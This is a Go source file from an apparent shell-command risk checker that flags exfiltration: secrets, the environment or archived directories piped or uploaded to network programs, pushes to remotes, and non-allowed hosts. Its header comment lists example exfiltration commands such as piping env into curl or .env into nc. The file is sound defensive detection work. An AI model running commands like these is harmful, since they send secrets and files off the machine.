package shellrisk

import (
	"net/url"
	"strings"
)

// Exfiltration is data leaving through the network: the environment, a secret file or a
// whole directory sent to a network program. The walk marks what a pipeline stage reads
// (w.leak) and hands it to the next stage with its standard input, so that
// `env | curl -d @- URL`, `cat .env | nc host 80` and `tar cz . | ssh host 'cat > x'` are
// exfiltration; a program that sends its operands (scp, rsync, aws s3 cp) is judged by
// what it sends; and git push to a remote the same command added, or to a URL, sends the
// repository to wherever the command chose.

// leakIn records that the code being walked reads something that must not leave: a
// secret, the environment, a whole tree.
func (w *walker) leakIn() { w.leak = true }

// sendEffects judges a network program: its standard input when it carries what leaked
// upstream, the files it sends, the remotes it pushes to and the hosts it names.
func (w *walker) sendEffects(p *program, s scanned, in stdin, seg string) {
	if in.kind == inPipe && in.secret || w.argLeak {
		w.add(codeExfiltration, seg)
	}
	if p.sends && len(s.operands) > 1 {
		last := s.operands[len(s.operands)-1]
		if isRemote(last.text) {
			for _, a := range s.operands[:len(s.operands)-1] {
				info := w.classifyPath(a)
				if w.leaks(info) || w.treeMayHoldSecrets(info) && (hasAny(p, s.flags, p.recursive, true) || len(p.recursive) == 0) {
					w.add(codeExfiltration, seg)
				}
			}
		}
	}
	for _, v := range s.values {
		if p.uploadFlags[v.flag] {
			w.uploadFile(v.val, seg)
		}
	}
	if p.pushes {
		for _, a := range s.operands {
			if a.dynamic {
				continue
			}
			if w.remotes[a.text] || strings.Contains(a.text, "://") || isRemote(a.text) {
				w.add(codeExfiltration, seg)
			}
			break
		}
	}
	if w.cx.HostAllowed != nil {
		for _, a := range s.args {
			if h := hostOf(a.text); h != "" && !a.dynamic && !w.cx.HostAllowed(h) {
				w.add(codeHostNotAllowed, seg)
			}
		}
	}
}

// taint records the files an archiver writes (its option values and operands): each holds
// what it read, and sending one later in the command is exfiltration.
func (w *walker) taint(s scanned) {
	if w.tainted == nil {
		w.tainted = map[string]bool{}
	}
	for _, v := range s.values {
		if !v.val.dynamic {
			w.tainted[w.classifyPath(v.val).clean] = true
		}
	}
	for _, a := range s.operands {
		if !a.dynamic {
			w.tainted[w.classifyPath(a).clean] = true
		}
	}
}

// leaks reports whether sending a file sends a secret: a secret or .env itself, a path only
// known at run time, or an archive this command made of a tree.
func (w *walker) leaks(info pathInfo) bool {
	return info.secret || info.envFile || info.class == pathDynamic || w.tainted[info.clean] && info.class != pathWorkspaceRoot
}

// uploadFile judges a file a network program sends whole (curl -T FILE, wget --post-file).
func (w *walker) uploadFile(a arg, seg string) {
	if a.text == "-" || a.procSubst {
		return
	}
	if w.leaks(w.classifyPath(a)) {
		w.add(codeExfiltration, seg)
	}
}

// isRemote reports whether an operand names another machine: host:path, user@host:path,
// s3://bucket, gs://bucket.
func isRemote(t string) bool {
	if strings.Contains(t, "://") {
		return true
	}
	colon := strings.IndexByte(t, ':')
	slash := strings.IndexByte(t, '/')
	return colon > 0 && (slash < 0 || colon < slash)
}

// hostOf returns the host a URL argument names, or "".
func hostOf(t string) string {
	if _, v, ok := strings.Cut(t, "="); ok && strings.HasPrefix(t, "-") {
		t = v
	}
	if !strings.Contains(t, "://") {
		return ""
	}
	u, err := url.Parse(t)
	if err != nil {
		return ""
	}
	return u.Hostname()
}
